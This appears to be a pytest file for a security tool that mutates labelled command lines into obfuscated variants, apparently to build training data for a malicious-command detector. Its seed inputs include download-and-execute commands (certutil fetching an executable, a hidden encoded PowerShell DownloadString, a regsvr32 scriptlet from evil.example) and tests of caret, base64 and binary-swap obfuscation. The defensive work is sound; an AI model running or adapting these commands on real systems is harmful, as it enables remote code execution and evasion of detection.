"""Command-line mutations keep the intent: a known program, the label, the technique's family."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from distilsec.data.example import Example
from distilsec.errors import ConfigError
from distilsec.methods.synthesize.cmdline_mutator import (
    KNOWN_BINARIES,
    TRANSFORMS,
    CmdlineMutator,
    binary_of,
    detect_platform,
)
from distilsec.methods.synthesize.filters import check_cmdline
from tests.conftest import BENIGN, MALICIOUS

DOWNLOADERS = {"certutil", "bitsadmin", "curl", "powershell", "wget", "python3", "busybox", "cmd"}


def _variants(text: str, label: str, n: int = 6, **kw):
    return CmdlineMutator(**kw).generate(Example(text, label), n, random_state=0)


@pytest.mark.parametrize("text", MALICIOUS)
def test_malicious_variants_keep_a_known_program_and_the_label(text):
    cands = _variants(text, "malicious")
    kept = [c for c in cands if c.text]
    assert len(kept) >= 4
    for c in kept:
        assert c.label == "malicious" and c.text != text
        assert binary_of(c.text) in KNOWN_BINARIES, c.text
        assert check_cmdline(c.text) is None, c.text
        assert c.provenance["generator"] == "cmdline_mutator.v1" and c.provenance["transforms"]


def test_download_family_stays_a_download_of_the_same_url():
    seed = "certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe"
    swaps = [c for c in _variants(seed, "malicious", n=30, transforms=["binary_swap"]) if c.text]
    assert len({binary_of(c.text) for c in swaps}) >= 2
    for c in swaps:
        assert binary_of(c.text) in DOWNLOADERS and "http://10.0.0.5/a.exe" in c.text, c.text


def test_benign_seeds_get_no_obfuscation_or_swaps():
    for text in BENIGN:
        for c in _variants(text, "benign", n=8):
            if c.text is None:
                assert c.error == "no_variation"
                continue
            assert "^" not in c.text and "base64" not in c.text and "${IFS}" not in c.text and "''" not in c.text
            assert binary_of(c.text) == binary_of(text)  # the same program
            assert not set(c.provenance["transforms"]) & {"binary_swap", "cmd_obfuscation", "posix_obfuscation"}


def test_powershell_payload_is_re_encoded_and_decodes():
    script = "IEX (New-Object Net.WebClient).DownloadString('http://10.1.1.1/a.ps1')"
    seed = (
        "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "
        + base64.b64encode(script.encode("utf-16-le")).decode()
    )
    found = 0
    for c in _variants(seed, "malicious", n=20, transforms=["ps_encoding", "ps_abbrev"]):
        m = re.search(r"\s-(?:e|ec|en|enc|encodedcommand|encodedc)\s+([A-Za-z0-9+/=]{8,})", c.text or "", re.I)
        if m:
            decoded = base64.b64decode(m.group(1)).decode("utf-16-le")
            assert "DownloadString" in decoded or "downloadstring" in decoded
            found += 1
    assert found >= 5


def test_windows_forms_paths_case_and_carets():
    seed = "regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll"
    texts = [c.text for c in _variants(seed, "malicious", n=40) if c.text]
    assert any(re.search(r"%SystemRoot%|%windir%|C:\\Windows", t, re.I) for t in texts)
    assert any("^" in t or '""' in t for t in texts)
    assert all(detect_platform(t) == "windows" for t in texts)


def test_deterministic_and_refuses_garbage_and_unknown_transforms():
    a = [c.text for c in _variants(MALICIOUS[0], "malicious")]
    assert a == [c.text for c in _variants(MALICIOUS[0], "malicious")]
    big = CmdlineMutator().generate(Example("a" * 100_000, "malicious"), 2)
    assert [c.error for c in big] == ["seed_too_large"] * 2
    assert {c.error for c in CmdlineMutator().generate(Example("   ", "benign"), 2)} == {"seed_error"}
    with pytest.raises(ConfigError):
        CmdlineMutator(transforms=["nope"]).generate(Example("ls", "benign"), 1)
    assert set(TRANSFORMS) >= {"binary_swap", "ps_abbrev", "ps_encoding", "cmd_obfuscation", "path_form", "values"}


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=80), st.sampled_from(["benign", "malicious"]))
def test_any_text_gives_candidates_or_counted_errors(text, label):
    cands = CmdlineMutator().generate(Example(text, label, id="x"), 2, random_state=1)
    assert len(cands) == 2
    for c in cands:
        assert (c.text is None) == (c.error is not None)
        assert c.text is None or isinstance(c.text, str)
